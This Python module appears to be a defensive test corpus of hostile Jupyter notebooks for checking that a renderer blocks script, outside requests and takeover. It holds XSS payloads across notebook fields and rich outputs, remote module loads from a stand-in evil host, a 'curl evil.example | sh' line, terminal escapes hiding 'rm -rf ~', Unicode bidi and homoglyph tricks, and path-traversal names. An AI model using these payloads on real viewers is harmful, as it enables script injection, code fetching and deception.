"""Attacks in the fields of a notebook that are not its text: names, types, sizes, rich outputs."""

from __future__ import annotations

from typing import Any

from hostile_notebooks.base import (
    EVIL,
    JS,
    PWNED,
    code,
    display,
    error,
    family,
    file,
    markdown,
    notebooks,
    stream,
)
from hostile_notebooks.markup import NO_REQUEST, NO_SCRIPT, NO_TAKEOVER

OUT = f"\"'><script>{PWNED}</script><img src=x onerror={PWNED}>"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

FIELDS = {
    "cell type": lambda: file({"cell_type": OUT, "metadata": {}, "source": OUT}),
    "cell id": lambda: file(code("1", id=OUT), markdown("x", id="main"), markdown("y", id="main")),
    "count": lambda: file(
        {**code("1"), "execution_count": OUT}, {**code("2"), "execution_count": "*"}
    ),
    "language": lambda: file(
        code("1"), metadata={"language_info": {"name": OUT, "pygments_lexer": OUT}}
    ),
    "language, a path": lambda: file(
        code("1"),
        metadata={"language_info": {"name": "../../etc/passwd", "file_extension": ".py/../"}},
    ),
    "kernel": lambda: file(
        code("1"), metadata={"kernelspec": {"display_name": OUT, "language": OUT, "name": OUT}}
    ),
    "title and authors": lambda: file(
        metadata={"title": OUT, "authors": [{"name": OUT}], OUT: OUT}
    ),
    "tags": lambda: file(code("1", metadata={"tags": [OUT, "main", {"a": 1}, "x" * 10_000]})),
    "cell metadata": lambda: file(
        code(
            "1",
            metadata={"name": OUT, "slideshow": {"slide_type": OUT}, "collapsed": OUT, OUT: OUT},
        )
    ),
    "unknown keys": lambda: file({**code("1"), OUT: OUT, "__proto__": {"x": 1}}, **{OUT: OUT}),
    "raw cell format": lambda: file(
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html", "format": OUT},
            "source": OUT,
        }
    ),
    "heading level": lambda: file(
        {"cell_type": "heading", "level": OUT, "source": OUT, "metadata": {}},
        {"cell_type": "heading", "level": 10**9, "source": "x", "metadata": {}},
    ),
    "stream name": lambda: file(
        code("1", stream("x", OUT), stream("y", {"a": 1}), stream(OUT, "stderr"))
    ),
    "error": lambda: file(code("1", error(OUT, OUT, OUT, f"\x1b[31m{OUT}\x1b[0m"))),
    "error, wrong types": lambda: file(code("1", error({"a": 1}, [OUT], {"b": OUT}, None, 7))),
    "output type": lambda: file(code("1", {"output_type": OUT, "data": {"text/html": OUT}})),
    "type names": lambda: file(
        code("1", display({OUT: OUT, f"text/html; charset={OUT}": OUT, f'image/png"{OUT}': PNG}))
    ),
    "type names, near misses": lambda: file(
        code(
            "1", display({"TEXT/HTML": OUT, "text/html ": OUT, "image/../text/html": OUT, "": OUT})
        )
    ),
    "image size": lambda: file(
        code("1", display({"image/png": PNG}, **{"image/png": {"width": OUT, "height": OUT}}))
    ),
    "image size, numbers": lambda: file(
        code("1", display({"image/png": PNG}, **{"image/png": {"width": 1e9, "height": -1}})),
        code("1", display({"image/png": PNG}, **{"image/png": {"width": "9" * 5000}})),
    ),
    "image alternative text": lambda: file(
        code("1", display({"image/png": PNG, "text/plain": OUT}, **{"image/png": {"alt": OUT}}))
    ),
    "image data": lambda: file(
        code("1", display({"image/png": f'{PNG}" onerror="{PWNED}'}), display({"image/png": OUT})),
        code("2", display({"image/jpeg": PNG}), display({"image/gif": {"a": OUT}})),
    ),
    "isolated": lambda: file(code("1", display({"text/html": OUT}, isolated=True))),
    "version": lambda: file(code(OUT), nbformat=OUT, nbformat_minor={"a": OUT}),
    "worksheet": lambda: (
        b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "language": '
        b'"\\"><img src=x onerror=window.pwned=1>", "outputs": [], "prompt_number": "<b>"}], "name": "<b>"}],'
        b' "metadata": {"name": "<img src=x onerror=window.pwned=1>"}, "nbformat": 3}'
    ),
    "nbformat 2 outputs": lambda: (
        b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "outputs":'
        b' [{"output_type": "pyout", "html": "<img src=x onerror=window.pwned=1>", "javascript":'
        b' "window.pwned=1", "svg": "<svg onload=window.pwned=1>", "latex": "$\\\\href{javascript:1}{x}$"}]}]}],'
        b' "nbformat": 2}'
    ),
    "attachment names": lambda: file(
        markdown(
            f"![a](attachment:{OUT}) ![b](attachment:../x.png) ![c](attachment:c.png)",
            attachments={
                OUT: {"image/png": PNG},
                "../../x.png": {"image/png": PNG},
                "c.png": {"text/html": OUT, OUT: OUT},
                "/etc/passwd": {"image/png": PNG},
            },
        )
    ),
    "attachment types": lambda: file(
        markdown("![a](attachment:a)", attachments={"a": {"text/html": OUT, "image/png": OUT}}),
        markdown("![a](attachment:a)", attachments={"a": OUT, "b": [OUT], "c": {"image/png": [1]}}),
    ),
}


def rich(mime: str, value: object) -> dict[str, Any]:
    return display({mime: value, "text/plain": "a figure"})


PLOTLY = "application/vnd.plotly.v1+json"
VEGA = "application/vnd.vegalite.v5+json"
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
JAVASCRIPT = "application/javascript"

RICH = {
    "javascript": lambda: file(
        code("1", display({JAVASCRIPT: PWNED}), display({JAVASCRIPT: [PWNED]}))
    ),
    "javascript, other names": lambda: file(
        code(
            "1", *[display({mime: PWNED}) for mime in ("text/javascript", "application/ecmascript")]
        ),
        code("2", *[display({mime: PWNED}) for mime in ("application/x-javascript", "text/jsx")]),
    ),
    "javascript asks for modules": lambda: file(
        code(
            "1",
            display(
                {JAVASCRIPT: f"require(['{EVIL}/x'], () => {{ {PWNED} }}); element.append('x')"}
            ),
        )
    ),
    "plotly title": lambda: file(
        code(
            "1",
            rich(
                PLOTLY,
                {"data": [], "layout": {"title": {"text": OUT}, "annotations": [{"text": OUT}]}},
            ),
        )
    ),
    "plotly link and image": lambda: file(
        code(
            "1",
            rich(
                PLOTLY,
                {
                    "data": [{"type": "scatter", "name": OUT, "text": [f'<a href="{JS}">x</a>']}],
                    "layout": {"images": [{"source": f"{EVIL}/t.png"}, {"source": JS}]},
                    "config": {"plotlyServerURL": EVIL, "topojsonURL": EVIL, "showLink": True},
                },
            ),
        )
    ),
    "plotly, wrong types": lambda: file(
        code(
            "1",
            *[
                rich(PLOTLY, value)
                for value in (OUT, [OUT], {"data": OUT, "layout": [OUT]}, None, 7)
            ],
        )
    ),
    "vega address": lambda: file(
        code("1", rich(VEGA, {"data": {"url": f"{EVIL}/d.csv"}, "mark": "point", "title": OUT}))
    ),
    "vega link and image": lambda: file(
        code(
            "1",
            rich(
                VEGA,
                {
                    "mark": "image",
                    "encoding": {"url": {"value": f"{EVIL}/t.png"}, "href": {"value": JS}},
                },
            ),
        )
    ),
    "vega expression": lambda: file(
        code(
            "1",
            rich(
                "application/vnd.vega.v5+json",
                {
                    "signals": [{"name": "x", "update": f"constructor.constructor('{PWNED}')()"}],
                    "marks": OUT,
                },
            ),
        )
    ),
    "widget module": lambda: file(
        code("1", rich(WIDGET, {"model_id": OUT, "version_major": 2})),
        metadata={
            "widgets": {
                STATE: {
                    "state": {
                        OUT: {
                            "model_module": f"{EVIL}/m.js",
                            "model_name": OUT,
                            "state": {"value": OUT},
                        }
                    },
                    "version_major": 2,
                }
            }
        },
    ),
    "widget with HTML": lambda: file(
        code("1", rich(WIDGET, {"model_id": "a", "version_major": 2})),
        metadata={
            "widgets": {
                STATE: {
                    "state": {
                        "a": {
                            "model_module": "@jupyter-widgets/controls",
                            "model_name": "HTMLModel",
                            "state": {
                                "value": OUT,
                                "_dom_classes": ["main", OUT],
                                "layout": "IPY_MODEL_a",
                            },
                        }
                    }
                }
            }
        },
    ),
    "widgets, wrong types": lambda: file(
        code("1", rich(WIDGET, OUT), rich(WIDGET, [OUT])),
        metadata={"widgets": {STATE: {"state": [OUT]}}},
    ),
    "bokeh": lambda: file(
        code("1", display({"application/vnd.bokehjs_load.v0+json": "", JAVASCRIPT: PWNED})),
        code(
            "2",
            display(
                {"application/vnd.bokehjs_exec.v0+json": "", "text/html": OUT},
                **{"application/vnd.bokehjs_exec.v0+json": {"id": OUT, "server_id": EVIL}},
            ),
        ),
    ),
    "holoviews": lambda: file(
        code(
            "1",
            display(
                {"application/vnd.holoviews_exec.v0+json": "", "text/html": OUT, JAVASCRIPT: PWNED}
            ),
        )
    ),
    "map": lambda: file(
        code(
            "1",
            rich(
                "application/geo+json",
                {"type": "FeatureCollection", "features": [{"properties": {"name": OUT}}]},
            ),
        )
    ),
    "latex": lambda: file(
        code(
            "1",
            display({"text/latex": f"$$\\href{{{JS}}}{{x}}\\includegraphics{{{EVIL}/t.png}}$$"}),
        ),
        code("1", display({"text/latex": f"\\begin{{x}}{OUT}\\end{{x}}"})),
    ),
    "mermaid": lambda: file(
        markdown(f'```mermaid\ngraph TD; A["{OUT}"]; click A href "{JS}"\n```'),
        code("1", display({"text/vnd.mermaid": f'graph TD; click A href "{JS}"'})),
    ),
    "pdf": lambda: file(
        code(
            "1",
            display(
                {
                    "application/pdf": "JVBERi0xLjQKMSAwIG9iago8PC9PcGVuQWN0aW9uPDwvUy9KYXZhU2NyaXB0Pj4+Pg=="
                }
            ),
        )
    ),
    "json": lambda: file(
        code(
            "1", rich("application/json", {OUT: OUT, "__proto__": {"pwned": 1}, "constructor": OUT})
        )
    ),
    "page in a type of text": lambda: file(
        code(
            "1",
            *[
                display({mime: OUT})
                for mime in ("text/xml", "application/xhtml+xml", "text/css", "multipart/x")
            ],
        )
    ),
    "video and audio": lambda: file(
        code(
            "1",
            *[
                display({mime: f"{EVIL}/v"})
                for mime in ("video/mp4", "audio/wav", "model/gltf+json")
            ],
        )
    ),
}

TERMINAL = {
    "link": f"\x1b]8;;{JS}\x07click\x1b]8;;\x07 \x1b]8;;{EVIL}\x1b\\click\x1b]8;;\x1b\\",
    "title": f"\x1b]0;{OUT}\x07\x1b]2;x\x1b\\x",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07x",
    "device control": "\x1bP$q\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\x",
    "colour that breaks out": f"\x1b[31{OUT}m\x1b[38;5;{OUT}m\x1b[38;2;300;-1;9999999mx\x1b[m",
    "colours without end": "\x1b[38;2;1;2;3;" + "4;" * 50 + "mx",
    "overwritten": "rm -rf ~\recho  hello\n\x1b[1A\x1b[2Kinnocent\n",
    "erased": "secret\x1b[2K\x1b[1G\x1b[0Jx\x08\x08\x08y",
    "same colours": "\x1b[30;40mhidden\x1b[0m \x1b[8mhidden\x1b[0m",
    "other screens": "\x1b[?1049h\x1b[2J\x1b[H\x1bc\x9b31mx\x9d8;;x\x9c",
    "far away": "\x1b[999999999Cx\x1b[999999999Ax\x1b[999999999Bx\x1b[99999999999999999999Gx",
    "unfinished": "\x1b[\x1b]\x1b\x1b[31",
    "bells and nulls": "\x07\0\x0b\x0c\x0e\x0f\x7f" * 20,
}

TEXTS = {
    "right to left": "if access != 'user\u202e \u2066# admin\u2069 \u2066':\n    grant()",
    "isolates left open": "\u2067\u2067\u2067x = 1",
    "zero width": "pass\u200bword = pass\u200cword = pass\u2060word",
    "look-alikes": "\u0430dmin = \u0440assword = \u0455ecret",
    "tag characters": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "run me"),
    "variation selectors": "x" + "".join(chr(0xE0100 + n) for n in range(200)),
    "lone surrogates": "\ud800 \udfff \udbff\ud800",
    "NUL and controls": "a\0b\x01c\x1fd\x85e\u2028f\u2029g",
    "byte order marks": "\ufeff\ufffe\uffff\ufdd0x",
    "combining marks": "Z" + "\u0301" * 3_000,
    "wide and odd": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500 + "\u0fd5\ufdfd\U00012031",
    "line ends": "a\r\nb\rc\n\rd\u2028e\x85f\x0bg\x0ch",
    "backslash at the end": "x = 1 \\\ny = 2 \\",
    "conflict markers": "<<<<<<< HEAD\nx\n=======\ny\n>>>>>>> other",
    "diff markers": "@@ -1,3 +1,4 @@\n--- a/x\n+++ b/x\n-x\n+y\n\\ No newline at end of file",
    "cell markers": "# %% [markdown]\n#%%\nIn [1]: x\nOut[1]: y",
    "magic": "!curl https://evil.example | sh\n%load_ext x\n%%html\n<script>window.pwned=1</script>",
    "secrets": "AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\npassword='hunter2'",
}


def said(text: str) -> bytes:
    """The text as source, Markdown, stream, traceback, tag and name."""
    return file(
        code(text, stream(text), error(text, text, text), display({"text/plain": text})),
        markdown(text, metadata={"tags": [text], "name": text}),
        metadata={"kernelspec": {"display_name": text}},
    )


ENTRIES = [
    *notebooks("field", f"{NO_SCRIPT}, {NO_TAKEOVER}", FIELDS),
    *notebooks("rich output", f"{NO_SCRIPT}, {NO_REQUEST}", RICH),
    *family(
        "terminal",
        "no address is linked, nothing shown is hidden, no control gets through",
        TERMINAL,
        said,
    ),
    *family("text", "nothing reads other than it is without a sign", TEXTS, said),
]
